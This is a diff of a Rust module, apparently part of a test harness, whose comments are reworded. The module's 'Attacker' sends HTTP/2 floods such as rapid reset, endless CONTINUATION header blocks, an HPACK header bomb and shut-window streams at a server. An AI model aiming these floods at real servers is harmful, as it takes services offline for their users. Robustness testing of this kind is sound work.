@@ -1,4 +1,4 @@
-//! Peers that send what costs a server something and is worth nothing.
+//! Attackers that send frames which cost a server something and are useless.
 
 use std::io::{self, ErrorKind, Read, Write};
 use std::net::TcpStream;
@@ -11,10 +11,10 @@ use crate::frames::{
 use crate::pb::probe::v1::Request;
 use stubwright::prost::Message;
 
-/// What a peer floods with.
+/// Kind of a flood.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Flood {
-    /// The prefixes of messages of 4 GiB.
+    /// Prefixes of messages of 4 GiB.
     LongMessage,
     /// Calls that are reset at once.
     RapidReset,
@@ -22,29 +22,30 @@ pub enum Flood {
     Ping,
     /// SETTINGS.
     Settings,
-    /// DATA without data.
+    /// Empty DATA frames.
     EmptyData,
-    /// DATA with one byte.
+    /// DATA frames with one byte.
     OneByteData,
     /// PRIORITY.
     Priority,
-    /// A header block without end, in small CONTINUATION frames.
+    /// An endless header block in small CONTINUATION frames.
     Continuation,
-    /// The same in large ones.
+    /// An endless header block in large CONTINUATION frames.
     LongHeaders,
-    /// Header blocks of 16 KiB that stand for 48 MiB.
+    /// Header blocks of 16 KiB that decode to 48 MiB.
     HeaderBomb,
-    /// Calls whose endless answers nobody reads.
+    /// Calls with endless responses that are not read.
     Unread,
-    /// The same with windows that are never opened: everything is read, and nothing may be sent.
+    /// Calls with endless responses and windows that are never opened: the attacker reads everything, and the server
+    /// may send nothing.
     ShutWindows,
 }
 
-/// Frames in a wave, where they are small.
+/// Number of frames in a wave, if they are small.
 const WAVE: usize = 200;
 
 impl Flood {
-    /// All of them.
+    /// All kinds.
     pub const ALL: [Flood; 12] = [
         Flood::LongMessage,
         Flood::RapidReset,
@@ -60,22 +61,22 @@ impl Flood {
         Flood::ShutWindows,
     ];
 
-    /// The one of this name.
+    /// Returns the kind with this name.
     pub fn named(name: &str) -> Option<Flood> {
         Flood::ALL.into_iter().find(|flood| flood.name() == name)
     }
 
-    /// Its name.
+    /// Returns the name of the kind.
     pub fn name(self) -> String {
         format!("{self:?}")
     }
 
-    /// What comes before the first wave.
+    /// Returns the bytes before the first wave.
     fn opening(self) -> Vec<u8> {
         match self {
             Flood::EmptyData | Flood::OneByteData => head(END_HEADERS, 1, "ClientStream"),
             Flood::Continuation | Flood::LongHeaders => head(0, 1, "ClientStream"),
-            // The largest windows that there are.
+            // The largest windows that HTTP/2 allows.
             Flood::Unread => [
                 frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]),
                 frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0, 0]),
@@ -86,7 +87,7 @@ impl Flood {
         }
     }
 
-    /// What is sent once, of streams from this one on.
+    /// Returns the frames that are repeated. Their first stream is `stream`.
     fn unit(self, stream: u32) -> Vec<u8> {
         match self {
             Flood::LongMessage => {
@@ -110,7 +111,7 @@ impl Flood {
                 frame(CONTINUATION, 0, 1, &block)
             }
             Flood::HeaderBomb => {
-                // A literal with incremental indexing, `k` with 4,000 bytes, then its index again and again.
+                // A literal with incremental indexing, `k` with 4,000 bytes, then many references to it.
                 let mut block = literals(&fields("/probe.v1.Probe/ClientStream"));
                 block.extend([0x40, 1, b'k', 0x7f, 0xa1, 0x1e]);
                 block.extend([b'v'; 4000]);
@@ -134,7 +135,7 @@ impl Flood {
         }
     }
 
-    /// How often a wave has it.
+    /// Returns how often a wave repeats the frames.
     fn repeats(self) -> usize {
         match self {
             Flood::LongMessage => 50,
@@ -170,13 +171,14 @@ pub struct Attacker {
 }
 
 impl Attacker {
-    /// Connects.
+    /// Connects to a server.
     ///
     /// # Errors
-    /// Those of the socket.
+    /// Returns the errors of the socket.
     pub fn connect(flood: Flood, address: &str) -> io::Result<Attacker> {
         let socket = TcpStream::connect(address)?;
-        // What the server answers is to block the flood as little as a server that does not read.
+        // A short timeout, so that the flood is blocked neither by the server's responses nor by a server that does
+        // not read.
         socket.set_write_timeout(Some(Duration::from_millis(200)))?;
         socket.set_read_timeout(Some(Duration::from_millis(1)))?;
         let mut attacker = Attacker {
@@ -191,10 +193,11 @@ impl Attacker {
         Ok(attacker)
     }
 
-    /// Sends some frames, and reads some of what the server has said unless that is what is not done. The bytes that were sent.
+    /// Sends a wave of frames. Then reads some of the server's bytes, unless the flood is about not reading. Returns the
+    /// number of bytes sent.
     ///
     /// # Errors
-    /// Those of the socket, and its end: the server has had enough.
+    /// Returns the errors of the socket, and `UnexpectedEof` if the server has closed the connection.
     pub fn wave(&mut self) -> io::Result<usize> {
         let mut wave = Vec::new();
         for _ in 0..self.flood.repeats() {
